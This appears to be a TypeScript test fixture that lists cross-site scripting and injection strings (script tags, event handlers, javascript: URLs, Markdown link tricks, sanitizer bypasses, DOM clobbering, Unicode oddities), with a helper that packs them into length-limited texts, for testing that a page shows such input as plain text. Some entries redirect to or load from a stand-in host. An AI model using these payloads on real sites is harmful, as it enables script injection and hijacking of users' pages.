/**
 * Texts that would run a script or break a page that treats them as anything but text. Each script calls
 * `hit`, which the tests look for. Short ones fit a name of 30 characters.
 */
export const SHORT_ATTACKS = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  "<svg/onload=hit()>",
  '"><svg onload=hit()>',
  "'onmouseover='hit()",
  "</title><script>hit()",
  "</script><b onclick=hit()>",
  "<!--<script>hit()",
  "<iframe src=//evil.test>",
  "{{constructor.hit()}}",
  `$${"{hit()}"}`,
  "javascript:hit()",
  "<a href=javascript:hit()>x",
  "&lt;img src=x onerror=hit()>",
  "<style>*{display:none}",
  "<base href=//evil.test>",
  "<form><input name=body>",
  "]]><script>hit()</script>",
  "<math><mi//xlink:href=hit>",
  "\u202egnp.exe\u2066",
  "A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "__proto__",
  "constructor",
  "null",
  "<p id=root>",
] as const;

/** Harmless text that looks like tags and must be shown in full. */
export const TAG_LIKE = "List<String> and Map<K, V>; if a<b then c>d <title> </script>";

/** Longer ones, most of them aimed at Markdown parsers and sanitizers. */
const LONG_ATTACKS = [
  TAG_LIKE,
  "<img src=x onerror=\"window['hit']()\" style=position:fixed;inset:0>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
  "<details open ontoggle=hit()>x</details>",
  "<input autofocus onfocus=hit()>",
  "<video><source onerror=hit()></video>",
  "<body onload=hit()>",
  "<marquee onstart=hit()>x</marquee>",
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<link rel=stylesheet href=//evil.test/x.css>",
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  "<template><script>hit()</script></template>",
  '<a href="jav&#x09;ascript:hit()">x</a>',
  "<scr<script>ipt>hit()</scr</script>ipt>",
  "[click](javascript:hit())",
  "[click](JaVaScRiPt:hit())",
  "[click](  javascript:hit())",
  "[click](java\tscript:hit())",
  "[click](data:text/html,<script>hit()</script>)",
  "[click](//evil.test)",
  "[click](/\\evil.test)",
  '[click](https://evil.test" onmouseover="hit())',
  "[<img src=x onerror=hit()>](https://a.example)",
  '![x](x" onerror="hit())',
  "**<b onclick=hit()>bold</b>**",
  "`<script>hit()</script>`",
  "```\n</code></pre><script>hit()</script>\n```",
  "> <svg onload=hit()>",
  "||<img src=x onerror=hit()>||",
  ":<img src=x onerror=hit()>:",
  ':happy"onerror="hit():',
  "@<script>hit()</script>",
  '[level:1" onclick="hit()]',
  "[item:<svg onload=hit()>]",
  '/levels/1"><script>hit()</script>',
  "- <img src=x onerror=hit()>\n- [x](vbscript:hit())",
  '<div id="root"></div><div data-embed="level" data-id="1"></div>',
  "<form action=//evil.test><button name=submit>x</button></form>",
  "<img name=getElementById><img name=body><a id=cookie href=//evil.test>",
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  "Z\u0335\u0311\u0310a\u0335\u0311l\u0335\u0311g\u0335\u0311o\u0335\u0311",
  "\u2028\u2029\ufeff\u200f\u202e\u2067",
  "W".repeat(180),
] as const;

/** All long attacks in texts of at most `maxLength` characters. */
export function attackTexts(maxLength: number): string[] {
  const texts: string[] = [];
  for (const attack of LONG_ATTACKS) {
    const last = texts.at(-1);
    if (last !== undefined && [...last, ...attack].length + 2 <= maxLength)
      texts[texts.length - 1] = `${last}\n\n${attack}`;
    else texts.push(attack);
  }
  return texts;
}
